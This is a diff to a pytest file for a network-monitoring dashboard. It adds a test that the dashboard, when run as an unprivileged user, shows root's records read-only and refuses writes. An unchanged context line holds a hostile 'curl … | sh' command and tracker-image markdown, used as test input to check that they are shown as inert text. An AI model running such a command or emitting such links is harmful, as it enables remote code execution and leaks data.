@@ -21,6 +21,7 @@ import shutil
 import signal
 import subprocess
 import sys
+import tempfile
 from pathlib import Path
 
 import pytest
@@ -160,3 +161,44 @@ def test_hostile_text_is_shown_as_text_in_the_browser(tmp_path):
     assert f"![t]({tracker.url}/img.png)" in body and f"curl {tracker.url}/cmd | sh" in body
     assert f"![m]({tracker.url}/model.png)" in llm_body.replace("\u2060", "")
     assert f"error: see [docs]({tracker.url}/link)" in llm_body.replace("\u2060", "")
+
+
+@pytest.fixture
+def shared_dir():
+    """A root-owned 0755 directory other users can read (pytest's tmp_path
+    sits under a 0700 directory)."""
+    path = Path(tempfile.mkdtemp(prefix="netsentinel-dash216-"))
+    path.chmod(0o755)
+    yield path
+    shutil.rmtree(path)
+
+
+def test_dashboard_runs_as_an_unprivileged_user(tmp_path, shared_dir, intruder):
+    """DASHBOARD_USER: the dashboard as a system user over root's records/
+    shows everything, says it is read-only, and refuses writes in one line."""
+    user, _ = intruder
+    records, config = shared_dir / "records", shared_dir / "filter_config.json"
+    seed(records)
+    config.write_text(json.dumps(WHITELIST))
+    before = {p.name: p.read_bytes() for p in records.iterdir()}
+    with B.dashboard_server(records, config, tmp_path / "streamlit.log", refresh=0, token=TOKEN,
+                            user=user) as url, B.chromium_page() as page:
+        server = next(p for p in Path("/proc").iterdir() if p.name.isdigit()
+                      and b"streamlit" in _cmdline(p) and url.rsplit(":", 1)[1].encode() in _cmdline(p)
+                      and p.stat().st_uid == pwd.getpwnam(user).pw_uid)
+        assert server.stat().st_uid != 0
+        page.goto(f"{url}/?token={TOKEN}&page=bans")
+        page.get_by_text("Read-only: the dashboard runs as uid").wait_for()
+        page.get_by_text("Active bans (3)").wait_for()  # root's records, readable
+        page.get_by_label("IP or CIDR").fill("203.0.113.63")
+        page.get_by_role("button", name="Ban", exact=True).click()
+        page.get_by_text("Permission denied").first.wait_for()
+    assert {p.name: p.read_bytes() for p in records.iterdir()} == before
+    assert "Traceback" not in (tmp_path / "streamlit.log").read_text()
+
+
+def _cmdline(p: Path) -> bytes:
+    try:
+        return (p / "cmdline").read_bytes()
+    except OSError:
+        return b""
